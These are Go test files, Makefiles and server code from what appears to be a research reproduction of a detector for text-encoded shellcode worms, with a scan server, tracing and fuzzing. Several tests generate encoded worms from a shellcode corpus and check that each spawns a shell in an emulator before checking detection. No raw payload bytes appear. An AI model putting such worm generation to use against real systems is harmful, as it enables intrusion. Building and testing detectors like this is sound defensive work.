package textmel

import (
	"testing"
)

// TestPublicAPIEndToEnd drives the whole public surface once: build the
// corpus, generate a verified worm, detect it, and spare the benign.
func TestPublicAPIEndToEnd(t *testing.T) {
	det, err := NewDetector(WithAlpha(0.01))
	if err != nil {
		t.Fatal(err)
	}

	benign, err := BenignDataset(1, 5, 4000)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range benign {
		v, err := det.Scan(c.Data)
		if err != nil {
			t.Fatal(err)
		}
		if v.Malicious {
			t.Errorf("benign case %d flagged (MEL=%d τ=%.1f)", i, v.MEL, v.Threshold)
		}
	}

	worm, err := EncodeWorm(ShellcodeCorpus()[0].Code, WormOptions{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	ok, err := VerifyWormSpawnsShell(worm)
	if err != nil {
		t.Fatal(err)
	}
	if !ok {
		t.Fatal("worm did not spawn a shell in the emulator")
	}
	v, err := det.Scan(worm.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("worm evaded detection (MEL=%d τ=%.1f)", v.MEL, v.Threshold)
	}
}

func TestPublicModelSurface(t *testing.T) {
	tau, err := Threshold(0.01, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if tau < 40 || tau > 41 {
		t.Errorf("τ = %v, paper: 40.61", tau)
	}
	cdf, err := MELCDF(40, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if cdf < 0.98 || cdf > 1 {
		t.Errorf("CDF(40) = %v", cdf)
	}
	pmf, err := MELPMF(20, 1540, 0.227)
	if err != nil {
		t.Fatal(err)
	}
	if pmf <= 0 || pmf > 0.2 {
		t.Errorf("PMF(20) = %v", pmf)
	}
	params, err := EstimateParams(EnglishFrequencies(), 4000)
	if err != nil {
		t.Fatal(err)
	}
	if params.N == 0 {
		t.Error("estimate returned zero n")
	}
	curve, err := IsoErrorCurve(0.01, 1540, 0.05, 0.5, 0.05)
	if err != nil {
		t.Fatal(err)
	}
	if len(curve) == 0 {
		t.Error("empty iso-error curve")
	}
}

func TestPublicMELEngines(t *testing.T) {
	seqEng := NewMELEngine(DAWNRules())
	res, err := seqEng.Scan([]byte("GET /index.html HTTP/1.1"))
	if err != nil {
		t.Fatal(err)
	}
	if res.MEL <= 0 {
		t.Errorf("MEL = %d", res.MEL)
	}
	allEng := NewMELEngineMode(APERules(), ModeAllPaths)
	res2, err := allEng.Scan([]byte("GET /index.html HTTP/1.1"))
	if err != nil {
		t.Fatal(err)
	}
	if res2.MEL < res.MEL {
		t.Errorf("APE all-paths MEL %d < DAWN sequential %d", res2.MEL, res.MEL)
	}
}

func TestPublicMonteCarlo(t *testing.T) {
	hist, err := RunMonteCarlo(MonteCarloConfig{N: 1000, P: 0.175, Rounds: 200, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if hist.Total() != 200 {
		t.Errorf("rounds recorded = %d", hist.Total())
	}
	pmf, err := MonteCarloPMF(MonteCarloConfig{N: 1000, P: 0.175, Rounds: 200, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(pmf) == 0 {
		t.Error("empty PMF")
	}
}

func TestShellcodeVariantsExposed(t *testing.T) {
	variants := ShellcodeVariants(3, 5)
	if len(variants) != 5 {
		t.Fatalf("got %d variants", len(variants))
	}
	w, err := EncodeWorm(variants[0].Code, WormOptions{Seed: 2})
	if err != nil {
		t.Fatal(err)
	}
	ok, err := VerifyWormSpawnsShell(w)
	if err != nil {
		t.Fatal(err)
	}
	if !ok {
		t.Error("variant worm failed to spawn shell")
	}
}

func TestDeploymentSurface(t *testing.T) {
	det, err := NewDetector()
	if err != nil {
		t.Fatal(err)
	}
	// Stream scanning through the facade.
	s, err := NewStreamScanner(det, 2048, 512)
	if err != nil {
		t.Fatal(err)
	}
	worm, err := EncodeWorm(ShellcodeCorpus()[0].Code, WormOptions{Seed: 44})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Write(worm.Bytes); err != nil {
		t.Fatal(err)
	}
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if len(s.Alerts()) == 0 {
		t.Error("stream scanner missed the worm")
	}
	// Profile round trip through the facade.
	profile, err := det.ExportProfile()
	if err != nil {
		t.Fatal(err)
	}
	restored, err := NewDetectorFromProfile(profile)
	if err != nil {
		t.Fatal(err)
	}
	v1, err := det.Scan(worm.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	v2, err := restored.Scan(worm.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if v1.MEL != v2.MEL || v1.Malicious != v2.Malicious {
		t.Error("profile-restored detector disagrees")
	}
	// Proxy construction through the facade.
	p, err := NewScanProxy(ScanProxyConfig{Detector: det, Upstream: "127.0.0.1:1"})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestTraceSurface(t *testing.T) {
	eng := NewMELEngine(DAWNRules())
	worm, err := EncodeWorm(ShellcodeCorpus()[0].Code, WormOptions{Seed: 45})
	if err != nil {
		t.Fatal(err)
	}
	res, err := eng.Scan(worm.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	steps, err := eng.Trace(worm.Bytes, res.BestStart)
	if err != nil {
		t.Fatal(err)
	}
	if len(steps) == 0 {
		t.Fatal("empty trace")
	}
	if FormatTrace(steps, 10) == "" {
		t.Error("empty formatted trace")
	}
}

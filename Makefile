GO ?= go

.PHONY: all build test vet lint lint-strict verify verify-quick ci bench bench-engine bench-smoke bench-guard serve-bench fuzz report cover clean

all: build vet test

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# mellint is the repo's own analyzer suite (internal/lint): hot-path
# call and allocation discipline, wire-protocol exhaustiveness, lock
# hygiene, atomic discipline, goroutine-leak evidence, opcode-table
# integrity, context conventions, taint flow from hostile wire input,
# and module-wide lock ordering. Findings recorded and justified in
# lint.baseline are suppressed; anything new exits nonzero. One run
# archives both machine-readable reports: lint.json for tooling and
# lint.sarif for code-scanning UIs.
# Timings go to a separate artifact (lint-timings.json) so the
# committed lint.json/lint.sarif stay byte-identical across re-runs.
lint:
	$(GO) run ./cmd/mellint -baseline lint.baseline -json -o lint.json -sarif-o lint.sarif -timings-o lint-timings.json ./...

# lint-strict ignores the baseline: every accepted finding surfaces
# again. Run it when re-auditing the baseline's justifications; it is
# expected to exit nonzero while lint.baseline is non-empty.
lint-strict:
	$(GO) run ./cmd/mellint ./...

# verify is melverify: the exhaustive decoder-equivalence prover
# (decodeprover + dpinvariants). It enumerates the bounded x86
# encoding space for all four rule sets and fails on any divergence
# between the fused packed-record decoder and the reference decoder,
# on any violated scan invariant, or on an incomplete enumeration
# (budget exceeded). Witnesses are exported as fuzz corpus seeds.
verify:
	$(GO) run ./cmd/mellint -verify -verify-budget 30s \
		-verify-corpus internal/mel/testdata/fuzz/FuzzScanDifferential \
		-baseline lint.baseline -json -o lint-verify.json ./...

# verify-quick is the seconds-scale smoke variant of the same prover.
verify-quick:
	$(GO) run ./cmd/mellint -verify -verify-quick -verify-budget 10s -baseline lint.baseline ./...

# Race-enabled everywhere: the engine's pooled scan state, the
# detector's threshold cache, and the serving pool/cache are all shared
# across goroutines. Vet and mellint first — they catch mistakes tests
# can miss.
test:
	$(GO) vet ./...
	$(GO) run ./cmd/mellint -baseline lint.baseline ./...
	$(GO) test -race ./...

# ci is the full gate a commit must pass: compile, vet, the analyzer
# suite (failing on any non-baselined finding), the race-enabled tests
# — which include the lint framework's own tests and the self-hosting
# TestRepoIsClean gate — a short fuzz smoke over the wire codec, and
# the bench guard, which fails the gate outright if the engine
# regressed against the committed BENCH_engine.json.
ci: build vet lint verify
	$(GO) test -race ./...
	$(GO) test -run NONE -fuzz FuzzWire -fuzztime 10s ./internal/server/
	$(MAKE) bench-guard

# bench-smoke runs the engine benchmark once with the JSON artifact
# suppressed — a CI canary, not a BENCH_engine.json refresh — and then
# checks the exhaustive verify pass still fits its runtime budget: the
# -verify-budget flag makes the prover itself fail (incomplete
# enumeration is a finding) if the full space no longer fits in ~30s.
bench-smoke:
	$(GO) run ./cmd/melbench -exp engine -benchout ""
	$(GO) run ./cmd/mellint -verify -verify-budget 30s -baseline lint.baseline ./...

# bench-guard re-measures the engine and content-pipeline benchmarks
# and exits nonzero if any ns/op regressed more than 20% — or any
# allocs/op rose — against the committed BENCH_engine.json and
# BENCH_content.json. A failing first pass is re-measured once and
# judged on the better run (CI machines are noisy).
bench-guard:
	$(GO) run ./cmd/melbench -exp guard

race:
	$(GO) test -race ./internal/core/ ./internal/proxy/ ./internal/server/... ./internal/telemetry/events/ ./internal/telemetry/anomaly/

bench:
	$(GO) test -bench=. -benchmem -run NONE .

bench-engine:
	$(GO) run ./cmd/melbench -exp engine

serve-bench:
	$(GO) run ./cmd/melbench -exp serve

fuzz:
	$(GO) test -fuzz=FuzzDecode -fuzztime=30s ./internal/x86/
	$(GO) test -fuzz=FuzzScan -fuzztime=30s ./internal/core/
	$(GO) test -run NONE -fuzz=FuzzDecodeViews -fuzztime=30s ./internal/content/
	$(GO) test -run NONE -fuzz=FuzzWire -fuzztime=30s ./internal/server/

report:
	$(GO) run ./cmd/melbench -exp all | tee report.txt

cover:
	$(GO) test -coverprofile=cover.out ./... && $(GO) tool cover -func=cover.out | tail -1

clean:
	rm -f report.txt cover.out test_output.txt bench_output.txt lint.json lint.sarif
	rm -f lint-timings.json lint-verify.json
	rm -f events.jsonl events.jsonl.1
	rm -rf bundles

GO ?= go

.PHONY: all build test vet bench bench-engine serve-bench fuzz report cover clean

all: build vet test

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# Race-enabled everywhere: the engine's pooled scan state, the
# detector's threshold cache, and the serving pool/cache are all shared
# across goroutines. Vet first — it catches mistakes tests can miss.
test:
	$(GO) vet ./...
	$(GO) test -race ./...

race:
	$(GO) test -race ./internal/core/ ./internal/proxy/ ./internal/server/...

bench:
	$(GO) test -bench=. -benchmem -run NONE .

bench-engine:
	$(GO) run ./cmd/melbench -exp engine

serve-bench:
	$(GO) run ./cmd/melbench -exp serve

fuzz:
	$(GO) test -fuzz=FuzzDecode -fuzztime=30s ./internal/x86/
	$(GO) test -fuzz=FuzzScan -fuzztime=30s ./internal/core/

report:
	$(GO) run ./cmd/melbench -exp all | tee report.txt

cover:
	$(GO) test -coverprofile=cover.out ./... && $(GO) tool cover -func=cover.out | tail -1

clean:
	rm -f report.txt cover.out test_output.txt bench_output.txt

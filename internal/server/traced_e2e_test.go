package server_test

import (
	"encoding/binary"
	"math"
	"net"
	"testing"

	"repro/internal/server"
	"repro/internal/server/client"
	"repro/internal/telemetry/tracing"
)

// TestTracedScanEndToEnd: a client built WithTracing gets back a
// populated Result.Trace whose stage timings are real, and the same
// trace is retrievable from the server's flight recorder by id.
func TestTracedScanEndToEnd(t *testing.T) {
	rec := tracing.NewRecorder(tracing.RecorderConfig{Recent: 64, Slow: 8})
	_, addr := startServer(t, server.Config{Recorder: rec})
	c, err := client.Dial(addr, client.WithTracing())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	payload := benignPayloads(t, 11, 1)[0]
	res, err := c.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	if res.Trace == nil {
		t.Fatal("traced scan returned nil Result.Trace")
	}
	tr := res.Trace
	if tr.ID.IsZero() {
		t.Fatal("zero trace id")
	}
	if tr.Server <= 0 {
		t.Fatalf("server total = %v, want > 0", tr.Server)
	}
	if tr.Elapsed < tr.Server {
		t.Fatalf("elapsed %v < server %v", tr.Elapsed, tr.Server)
	}
	if tr.Network < 0 {
		t.Fatalf("network = %v, want >= 0", tr.Network)
	}
	// A cache-miss scan must time the queue wait, the cache probe, the
	// threshold derivation, the decode, and the DP.
	for _, s := range []tracing.Stage{
		tracing.StageQueueWait, tracing.StageCache, tracing.StageThreshold,
		tracing.StageDecode, tracing.StageDP,
	} {
		if tr.Stages[s] < 0 {
			t.Fatalf("stage %s not recorded", s)
		}
	}
	if tr.Stages[tracing.StageDecode] == 0 && tr.Stages[tracing.StageDP] == 0 {
		t.Fatal("decode and DP both zero — compute stages not timed")
	}

	// The flight recorder holds the same trace under the same id.
	found := false
	for _, got := range rec.Recent(0) {
		if got.ID == tr.ID {
			found = true
			if got.Bytes != len(payload) {
				t.Fatalf("recorded trace bytes = %d, want %d", got.Bytes, len(payload))
			}
			if got.MEL != res.MEL {
				t.Fatalf("recorded trace MEL = %d, verdict %d", got.MEL, res.MEL)
			}
			if got.Total() != tr.Server {
				t.Fatalf("recorded total %v != echoed total %v", got.Total(), tr.Server)
			}
		}
	}
	if !found {
		t.Fatalf("trace %s not in flight recorder", tr.ID)
	}
}

// TestTracedCacheHitGetsFreshTraceID: a repeat scan is served from the
// verdict cache but still carries its own trace id, not the miss's.
func TestTracedCacheHitGetsFreshTraceID(t *testing.T) {
	rec := tracing.NewRecorder(tracing.RecorderConfig{Recent: 64, Slow: 8})
	_, addr := startServer(t, server.Config{Recorder: rec})
	c, err := client.Dial(addr, client.WithTracing())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	payload := benignPayloads(t, 12, 1)[0]
	first, err := c.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	second, err := c.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !second.Cached {
		t.Fatal("second identical scan not served from cache")
	}
	if second.Trace == nil {
		t.Fatal("cache hit lost its trace")
	}
	if second.Trace.ID == first.Trace.ID {
		t.Fatal("cache hit reused the miss's trace id")
	}
	if second.Trace.Stages[tracing.StageCache] < 0 {
		t.Fatal("cache hit did not time the cache stage")
	}
	if second.Trace.Stages[tracing.StageDP] >= 0 {
		t.Fatal("cache hit claims a DP stage")
	}
}

// TestUntracedClientAgainstTracingServer: a plain client against a
// recorder-enabled server gets plain verdicts (nil Trace), and the
// server still records a trace for the request.
func TestUntracedClientAgainstTracingServer(t *testing.T) {
	rec := tracing.NewRecorder(tracing.RecorderConfig{Recent: 64, Slow: 8})
	_, addr := startServer(t, server.Config{Recorder: rec})
	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	res, err := c.Scan(benignPayloads(t, 13, 1)[0])
	if err != nil {
		t.Fatal(err)
	}
	if res.Trace != nil {
		t.Fatal("untraced scan returned a Trace")
	}
	if len(rec.Recent(0)) == 0 {
		t.Fatal("server did not auto-trace the untraced request")
	}
}

// fakeLegacyServer speaks the pre-tracing protocol: MsgScan gets a
// canned verdict, MsgScanTraced gets the bad-request error a server
// that predates the frame type would send.
func fakeLegacyServer(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		for {
			typ, id, _, err := server.ReadFrame(conn, 1<<20)
			if err != nil {
				return
			}
			var resp []byte
			switch typ {
			case server.MsgScan:
				// Hand-rolled MsgVerdict: flags | MEL | BestStart | τ.
				body := make([]byte, 0, 9+17)
				body = append(body, server.MsgVerdict)
				body = binary.BigEndian.AppendUint64(body, id)
				body = append(body, 0)
				body = binary.BigEndian.AppendUint32(body, 21)
				body = binary.BigEndian.AppendUint32(body, 3)
				body = binary.BigEndian.AppendUint64(body, math.Float64bits(104.0))
				resp = binary.BigEndian.AppendUint32(nil, uint32(len(body)))
				resp = append(resp, body...)
			default:
				body := make([]byte, 0, 9+1)
				body = append(body, server.MsgError)
				body = binary.BigEndian.AppendUint64(body, id)
				body = append(body, server.CodeBadRequest)
				resp = binary.BigEndian.AppendUint32(nil, uint32(len(body)))
				resp = append(resp, body...)
			}
			if _, err := conn.Write(resp); err != nil {
				return
			}
		}
	}()
	return ln.Addr().String()
}

// TestTracingClientDowngradesAgainstLegacyServer: a WithTracing client
// talking to a server that rejects MsgScanTraced transparently retries
// untraced and stays downgraded.
func TestTracingClientDowngradesAgainstLegacyServer(t *testing.T) {
	addr := fakeLegacyServer(t)
	c, err := client.Dial(addr, client.WithTracing())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	// Two scans: the first exercises the downgrade-and-retry path, the
	// second the downgraded steady state.
	for i := 0; i < 2; i++ {
		res, err := c.Scan([]byte("hello legacy"))
		if err != nil {
			t.Fatalf("scan %d: %v", i, err)
		}
		if res.Trace != nil {
			t.Fatalf("scan %d: legacy server produced a Trace", i)
		}
		if res.MEL != 21 {
			t.Fatalf("scan %d: MEL = %d, want canned 21", i, res.MEL)
		}
	}
}

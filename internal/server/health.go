package server

import (
	"encoding/json"
	"net/http"
)

// Health states, ordered from healthy to unavailable.
const (
	// HealthServing: accepting work with queue headroom.
	HealthServing = "serving"
	// HealthOverloaded: accepting connections but the scan queue is
	// full — submissions are being shed.
	HealthOverloaded = "overloaded"
	// HealthDraining: shutdown has begun; no new work is accepted.
	HealthDraining = "draining"
)

// HealthStatus is the /debug/health body — the readiness signal
// trafficgen and cluster health checks key on.
type HealthStatus struct {
	// Status is one of serving, overloaded, draining.
	Status string `json:"status"`
	// QueueDepth / QueueCapacity expose the pool occupancy behind the
	// overloaded judgement.
	QueueDepth    int `json:"queue_depth"`
	QueueCapacity int `json:"queue_capacity"`
}

// Health reports the server's current readiness. Draining wins over
// overloaded: once shutdown begins the state is terminal.
func (s *Server) Health() HealthStatus {
	depth, capacity := s.pool.Queue()
	st := HealthStatus{Status: HealthServing, QueueDepth: depth, QueueCapacity: capacity}
	if capacity > 0 && depth >= capacity {
		st.Status = HealthOverloaded
	}
	if s.isDraining() {
		st.Status = HealthDraining
	}
	return st
}

// HealthHandler serves Health as JSON: 200 while serving, 503 while
// overloaded or draining, so a plain HTTP check (or an LB) needs no
// body parsing.
func (s *Server) HealthHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		st := s.Health()
		w.Header().Set("Content-Type", "application/json")
		if st.Status != HealthServing {
			w.WriteHeader(http.StatusServiceUnavailable)
		}
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(st)
	})
}

package server_test

import (
	"errors"
	"net"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/server"
	"repro/internal/server/client"
	"repro/internal/shellcode"
)

// startServer runs a server on an ephemeral loopback port and returns
// it with its address; cleanup closes it.
func startServer(t *testing.T, cfg server.Config) (*server.Server, string) {
	t.Helper()
	if cfg.Detector == nil {
		det, err := core.New()
		if err != nil {
			t.Fatal(err)
		}
		cfg.Detector = det
	}
	srv, err := server.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	t.Cleanup(func() {
		srv.Close()
		if err := <-serveErr; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	return srv, ln.Addr().String()
}

func benignPayloads(t *testing.T, seed uint64, n int) [][]byte {
	t.Helper()
	cases, err := corpus.Dataset(seed, n, 4096)
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]byte, n)
	for i, c := range cases {
		out[i] = c.Data
	}
	return out
}

func wormPayload(t *testing.T, seed uint64) []byte {
	t.Helper()
	worm, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: seed})
	if err != nil {
		t.Fatal(err)
	}
	benign := benignPayloads(t, seed, 1)[0]
	p := append(append([]byte{}, benign[:2000]...), worm.Bytes...)
	p = append(p, benign[2000:]...)
	if len(p) > 4096 {
		p = p[:4096]
	}
	return p
}

// TestServeVerdictsMatchLocal: verdicts over the wire equal local
// Scan verdicts, for benign and malicious payloads alike.
func TestServeVerdictsMatchLocal(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	_, addr := startServer(t, server.Config{Detector: det, CacheSize: -1})
	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	payloads := benignPayloads(t, 3, 4)
	payloads = append(payloads, wormPayload(t, 3))
	sawMalicious := false
	for i, p := range payloads {
		want, err := det.Scan(p)
		if err != nil {
			t.Fatal(err)
		}
		got, err := c.Scan(p)
		if err != nil {
			t.Fatalf("payload %d: %v", i, err)
		}
		if got.Malicious != want.Malicious || got.MEL != want.MEL ||
			got.BestStart != want.BestStart || got.Threshold != want.Threshold ||
			got.TextOnly != want.TextOnly {
			t.Fatalf("payload %d: wire verdict %+v, local %+v", i, got, want)
		}
		if got.Cached {
			t.Fatalf("payload %d: cached verdict from cache-disabled server", i)
		}
		sawMalicious = sawMalicious || got.Malicious
	}
	if !sawMalicious {
		t.Fatal("worm payload not flagged — detection broke en route")
	}
}

// TestCacheHitFlagAndMetrics: the second scan of identical bytes is
// served from the cache, flagged as such, and counted.
func TestCacheHitFlagAndMetrics(t *testing.T) {
	srv, addr := startServer(t, server.Config{})
	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	p := benignPayloads(t, 5, 1)[0]
	first, err := c.Scan(p)
	if err != nil {
		t.Fatal(err)
	}
	if first.Cached {
		t.Fatal("first scan reported cached")
	}
	second, err := c.Scan(p)
	if err != nil {
		t.Fatal(err)
	}
	if !second.Cached {
		t.Fatal("second scan of identical bytes not served from cache")
	}
	if second.MEL != first.MEL || second.Threshold != first.Threshold {
		t.Fatalf("cached verdict diverged: %+v vs %+v", second, first)
	}
	reg := srv.Metrics()
	for name, want := range map[string]float64{
		"scans_total":        2,
		"cache_hits_total":   1,
		"cache_misses_total": 1,
	} {
		if got, ok := reg.Value(name); !ok || got != want {
			t.Fatalf("%s = %v (ok=%v), want %v", name, got, ok, want)
		}
	}
	if v, ok := reg.Value("verdicts_benign_total"); !ok || v < 1 {
		t.Fatalf("verdicts_benign_total = %v, ok=%v", v, ok)
	}
}

// TestPipelinedConcurrentClients: many goroutines share one client
// connection; every request gets its own matching response.
func TestPipelinedConcurrentClients(t *testing.T) {
	_, addr := startServer(t, server.Config{Workers: 4, QueueDepth: 64})
	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	payloads := benignPayloads(t, 7, 8)
	var wg sync.WaitGroup
	errs := make(chan error, 32)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 4; i++ {
				p := payloads[(g+i)%len(payloads)]
				res, err := c.Scan(p)
				if err != nil {
					errs <- err
					return
				}
				if res.MEL < 0 || res.Threshold <= 0 {
					errs <- errors.New("implausible verdict")
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
}

// TestOverloadShedsTyped: with one worker, a one-slot queue, and a
// stalled detector-free flood, excess requests shed with
// ErrOverloaded — and every request returns; nothing hangs.
func TestOverloadShedsTyped(t *testing.T) {
	srv, addr := startServer(t, server.Config{Workers: 1, QueueDepth: 1, CacheSize: -1})
	c, err := client.Dial(addr, client.WithTimeout(30*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	p := benignPayloads(t, 9, 1)[0]
	const inflight = 32
	var wg sync.WaitGroup
	var mu sync.Mutex
	var shed, served int
	var unexpected []error
	for i := 0; i < inflight; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := c.Scan(p)
			mu.Lock()
			defer mu.Unlock()
			switch {
			case err == nil:
				served++
			case errors.Is(err, server.ErrOverloaded):
				shed++
			default:
				unexpected = append(unexpected, err)
			}
		}()
	}
	wg.Wait()
	if len(unexpected) > 0 {
		t.Fatalf("unexpected errors: %v", unexpected)
	}
	if served == 0 {
		t.Fatal("no request served under overload")
	}
	if shed == 0 {
		t.Fatal("no request shed: queue depth 1 with 32 in flight must shed")
	}
	if served+shed != inflight {
		t.Fatalf("served %d + shed %d != %d", served, shed, inflight)
	}
	if v, ok := srv.Metrics().Value("shed_total"); !ok || v != float64(shed) {
		t.Fatalf("shed_total = %v, want %d", v, shed)
	}
}

// TestPayloadTooLargeTyped: oversized payloads get the typed error,
// and the connection survives for further requests.
func TestPayloadTooLargeTyped(t *testing.T) {
	_, addr := startServer(t, server.Config{MaxPayload: 1024})
	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	if _, err := c.Scan(make([]byte, 4096)); !errors.Is(err, server.ErrPayloadTooLarge) {
		t.Fatalf("oversized scan err = %v, want ErrPayloadTooLarge", err)
	}
	if _, err := c.Scan(benignPayloads(t, 11, 1)[0][:512]); err != nil {
		t.Fatalf("connection unusable after typed error: %v", err)
	}
}

// TestGracefulDrain: requests in flight when Close begins still get
// verdicts; the listener refuses new connections afterwards.
func TestGracefulDrain(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := server.New(server.Config{Detector: det, Workers: 1, QueueDepth: 8})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()

	c, err := client.Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	payloads := benignPayloads(t, 13, 4)
	results := make(chan error, len(payloads))
	var wg sync.WaitGroup
	for _, p := range payloads {
		wg.Add(1)
		go func(p []byte) {
			defer wg.Done()
			_, err := c.Scan(p)
			results <- err
		}(p)
	}
	wg.Wait() // all four verdicts back before Close — sanity baseline
	close(results)
	for err := range results {
		if err != nil {
			t.Fatal(err)
		}
	}

	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-serveErr; err != nil {
		t.Fatalf("serve returned %v after Close", err)
	}
	if _, err := net.DialTimeout("tcp", addr, 500*time.Millisecond); err == nil {
		t.Fatal("listener still accepting after Close")
	}
}

// TestPoolDrainServesQueuedWork: jobs accepted before Close are served
// during the drain, never dropped.
func TestPoolDrainServesQueuedWork(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pool, err := server.NewPool(server.PoolConfig{Detector: det, Workers: 1, QueueDepth: 8})
	if err != nil {
		t.Fatal(err)
	}
	p := benignPayloads(t, 15, 1)[0]
	const jobs = 6
	done := make(chan error, jobs)
	for i := 0; i < jobs; i++ {
		err := pool.Submit(p, time.Time{}, func(_ core.Verdict, _ bool, err error) { done <- err })
		if err != nil {
			t.Fatalf("submit %d: %v", i, err)
		}
	}
	pool.Close() // must drain all six
	for i := 0; i < jobs; i++ {
		if err := <-done; err != nil {
			t.Fatalf("queued job failed during drain: %v", err)
		}
	}
	if err := pool.Submit(p, time.Time{}, func(core.Verdict, bool, error) {}); !errors.Is(err, server.ErrShuttingDown) {
		t.Fatalf("submit after close = %v, want ErrShuttingDown", err)
	}
}

// TestRequestDeadlineExpiresTyped: a request whose deadline passed
// before a worker reached it fails with ErrDeadlineExceeded.
func TestRequestDeadlineExpiresTyped(t *testing.T) {
	det, err := core.New()
	if err != nil {
		t.Fatal(err)
	}
	pool, err := server.NewPool(server.PoolConfig{Detector: det, Workers: 1, QueueDepth: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	p := benignPayloads(t, 17, 1)[0]

	// Stall the single worker with a long job, then queue one whose
	// deadline is already in the past — deterministically expired by
	// the time the worker frees up.
	blockDone := make(chan struct{})
	if err := pool.Submit(p, time.Time{}, func(core.Verdict, bool, error) { close(blockDone) }); err != nil {
		t.Fatal(err)
	}
	expired := make(chan error, 1)
	if err := pool.Submit(p, time.Now().Add(-time.Second), func(_ core.Verdict, _ bool, err error) { expired <- err }); err != nil {
		t.Fatal(err)
	}
	<-blockDone
	if err := <-expired; !errors.Is(err, server.ErrDeadlineExceeded) {
		t.Fatalf("expired job err = %v, want ErrDeadlineExceeded", err)
	}
}

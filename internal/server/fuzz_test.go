package server

import (
	"bytes"
	"errors"
	"io"
	"testing"

	"repro/internal/core"
)

// FuzzWire drives the frame reader with arbitrary byte streams and
// reader limits. The wire layer's contract under hostile input is:
// never panic, never allocate the declared (attacker-controlled) frame
// length, and fail only with typed errors the serve loop knows how to
// classify — errShortFrame, errFrameTooLarge, or an io read error.
// Frames that do parse must survive a re-encode/re-decode round trip.
func FuzzWire(f *testing.F) {
	f.Add(AppendScanRequest(nil, 1, []byte("\x90\x90\xC3")), uint32(1<<16))
	f.Add(appendVerdict(nil, 7, core.Verdict{MEL: 12, BestStart: 3, Threshold: 6.5, Malicious: true}, true), uint32(1<<16))
	f.Add(appendError(nil, 9, CodeOverloaded, ErrOverloaded.Error()), uint32(1<<16))
	f.Add(AppendScanContentRequest(nil, 3, []byte("H4sIAAAA wrapped body")), uint32(1<<16))
	f.Add(appendVerdictContent(nil, 11, core.Verdict{
		MEL: 87, BestStart: 9, Threshold: 43.7, Malicious: true,
		ViewIndex: 2, DecodeChain: "gzip>base64", TriageScore: 0.91,
	}, false), uint32(1<<16))
	f.Add(appendVerdictContent(nil, 12, core.Verdict{TriageCleared: true, TriageScore: 0.18, Threshold: 40}, true), uint32(1<<16))
	// Truncated: length prefix promises more than the stream holds.
	f.Add([]byte{0, 0, 4, 0, 0x01}, uint32(1<<16))
	// Oversized: length prefix exceeds the reader's limit.
	f.Add(AppendScanRequest(nil, 2, make([]byte, 512)), uint32(64))
	// Short: declared body smaller than the fixed header.
	f.Add([]byte{0, 0, 0, 2, 0x01, 0x00}, uint32(1<<16))
	f.Add([]byte{}, uint32(0))

	f.Fuzz(func(t *testing.T, data []byte, maxBody uint32) {
		// Cap the limit so a parsed frame's payload stays small enough to
		// re-encode cheaply; the limit itself is still fuzzed below it.
		maxBody %= 1 << 20

